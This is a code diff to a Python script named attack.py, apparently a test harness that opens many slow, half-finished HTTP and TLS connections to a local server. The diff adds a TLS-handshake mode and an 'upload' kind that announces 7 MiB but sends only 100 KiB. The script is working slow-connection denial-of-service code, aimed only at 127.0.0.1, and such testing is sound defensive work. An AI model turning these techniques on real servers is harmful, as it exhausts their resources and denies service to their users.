@@ -3,9 +3,13 @@
 """usage: attack.py PORT KIND N RATE SOURCE...
 Keeps N connections to 127.0.0.1:PORT, by turns from the addresses given, and opens those that are closed again, RATE a
 second at most. Each sends a byte of its text now and then, so that no pause is long. "ready" on stdout when N were open
-for the first time; ends when stdin does."""
+for the first time; ends when stdin does.
+
+If KIND begins with "tls-", the text is sent after a complete TLS handshake, and a connection counts from then on.
+ATTACK_PATH in the environment is the path of KIND "tls-upload"."""
 import contextlib
 import errno
+import os
 import select
 import socket
 import ssl
@@ -24,14 +28,22 @@ TEXTS = {
     "chunk": (b"POST /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", b"X: " + b"x" * 1000),
     "pipeline": (b"GET / HTTP/1.1\r\nHost:\r\n\r\n" * 1200, b""),  # none of the answers is read
     "record": (b"\x16\x03\x01\x02\x01", b"\x01" * 500),  # a handshake that is never completed
+    # 7 MiB are announced; the first 100 KiB arrive, so that each holds memory.
+    "upload": (f"POST {os.environ.get('ATTACK_PATH')} HTTP/1.1\r\nHost: x\r\nContent-Length: {7 << 20}\r\n\r\n".encode()
+               + b" " * (100 << 10), b" " * 15000),
 }
 UNREAD = {"unread", "pipeline"}
 
 
-def hello():
-    """A client's complete first TLS message: the server computes its answer, and gets nothing more."""
+def anybody():
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    return context
+
+
+def hello():
+    """A client's complete first TLS message: the server computes its answer, and gets nothing more."""
+    context = anybody()
     into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
     try:
         context.wrap_bio(into, out, server_hostname="x").do_handshake()
@@ -39,13 +51,26 @@ def hello():
         return out.read()
 
 
+def shake(s):
+    """The events that its TLS handshake waits for; 0: it is complete."""
+    try:
+        s.do_handshake()
+    except ssl.SSLWantReadError:
+        return select.EPOLLIN
+    except ssl.SSLWantWriteError:
+        return select.EPOLLOUT
+    return 0
+
+
 def main():
     port, kind, n, rate = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
     sources = sys.argv[5:]
+    context = anybody() if kind.startswith("tls-") else None
+    kind = kind.removeprefix("tls-")
     start, more = (hello(), b"") if kind == "hello" else TEXTS[kind]
     poll = select.epoll()
     poll.register(0, select.EPOLLIN)
-    live, opened, ready, allowed, last, byte = {}, 0, False, float(n), time.monotonic(), 0.0
+    live, tried, opened, ready, allowed, last, byte = {}, 0, 0, False, float(n), time.monotonic(), 0.0
     while True:
         now = time.monotonic()
         allowed, last = min(allowed + (now - last) * rate, n), now
@@ -55,33 +80,45 @@ def main():
             if kind in UNREAD:
                 s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the kernel's smallest: answers stay with the server
             s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")  # leaves no TIME_WAIT
-            s.bind((sources[opened % len(sources)], 0))
+            s.bind((sources[tried % len(sources)], 0))
             s.setblocking(False)
             if s.connect_ex(("127.0.0.1", port)) not in (0, errno.EINPROGRESS):
                 s.close()
                 break
-            live[s.fileno()] = [s, -1]
+            live[s.fileno()] = [s, -1, start]
             poll.register(s, select.EPOLLIN | select.EPOLLOUT)
-            opened += 1
+            tried, opened = tried + 1, opened + (not context)
         for fd, event in poll.poll(0.05):
             if fd == 0:
                 return
-            s, sent = one = live[fd]
+            s, sent, rest = one = live[fd]
             try:
-                if event & select.EPOLLOUT and sent < 0:
-                    s.send(start)
-                    one[1] = 0
-                    poll.modify(s, select.EPOLLIN if kind not in UNREAD else 0)
-                if event & (select.EPOLLHUP | select.EPOLLERR) or (event & select.EPOLLIN and not s.recv(65536)):
+                if event & (select.EPOLLHUP | select.EPOLLERR):
                     raise ConnectionResetError
+                if context and sent < 0:
+                    if not isinstance(s, ssl.SSLSocket):
+                        s = one[0] = context.wrap_socket(s, do_handshake_on_connect=False)
+                    if wants := shake(s):
+                        poll.modify(s, wants)
+                        continue
+                    opened += 1
+                if (rest or sent < 0) and (event & select.EPOLLOUT or context):
+                    rest = rest[s.send(rest):]
+                    one[1:] = 0, rest if context else b""
+                    waits = select.EPOLLIN if kind not in UNREAD else 0
+                    poll.modify(s, waits | select.EPOLLOUT if one[2] else waits)
+                if event & select.EPOLLIN and not s.recv(65536):
+                    raise ConnectionResetError
+            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+                pass
             except OSError:
                 poll.unregister(fd)
                 s.close()
                 del live[fd]
         if now - byte > EVERY:
             byte = now
-            for s, sent in list(live.values()):
-                if 0 <= sent < len(more):
+            for s, sent, rest in list(live.values()):
+                if 0 <= sent < len(more) and not rest:
                     with contextlib.suppress(OSError):  # the poll above hears of it
                         s.send(more[sent:sent + 1])
                     live[s.fileno()][1] += 1
